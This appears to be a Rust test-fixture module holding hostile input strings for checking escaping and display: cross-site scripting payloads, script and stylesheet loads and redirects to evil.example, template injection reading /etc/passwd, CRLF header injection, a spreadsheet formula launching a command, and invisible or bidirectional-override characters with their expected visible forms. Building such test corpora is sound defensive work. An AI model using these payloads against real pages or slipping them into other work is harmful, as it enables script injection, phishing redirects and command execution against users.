//! Hostile texts: markup, and characters that a reader cannot see.

/// Texts that some page of some program took for more than text.
pub(crate) const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title></head><body onload=alert(1)>",
    "</pre></code></p></main><form action=//evil.example><input name=q>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![i](http://evil.example/i.png)",
    "https://evil.example/?a=1&b=2",
    "<!-- <a href=\"http://evil.example\">",
    "--><iframe srcdoc=\"<script>alert(1)</script>\">",
    "]]><![CDATA[<b>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62; &amp;amp; &quot;&apos;",
    "{{ shell.token(\"/leave\") }} {% include \"/etc/passwd\" %} ${7*7}",
    "<option selected>chosen</option></select></datalist>",
    "</dd></dl></section></aside></article>",
    "<a id=live data-live data-version=1 data-run=x>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3Ealert(1)%3C/script%3E%0d%0aSet-Cookie: cbw=x",
    "=cmd|'/c calc'!A1",
    "a\tb\n\n\n  c   d\n",
];

/// Texts with characters that a reader does not see, and how they are shown.
pub(crate) const UNSEEN: &[(&str, &str)] = &[
    ("safe\u{202e}gpj.exe", "safeU+202Egpj.exe"),
    ("a\u{200b}b\u{2060}c\u{feff}d", "aU+200BbU+2060cU+FEFFd"),
    ("\u{2066}x\u{2069}\u{200f}", "U+2066xU+2069U+200F"),
    ("tag\u{e0041}\u{e0042}", "tagU+E0041U+E0042"),
    ("bell\u{7}esc\u{1b}[31mred\u{9b}0m", "bellU+0007escU+001B[31mredU+009B0m"),
    ("line\u{2028}line\u{2029}", "lineU+2028lineU+2029"),
    ("soft\u{ad}hyphen\u{3164}filler", "softU+00ADhyphenU+3164filler"),
    ("null\u{0}byte", "nullU+0000byte"),
    ("a\rb", "aU+000Db"),
    ("`co\u{202e}de` <b>", "coU+202Ede <b>"),
];
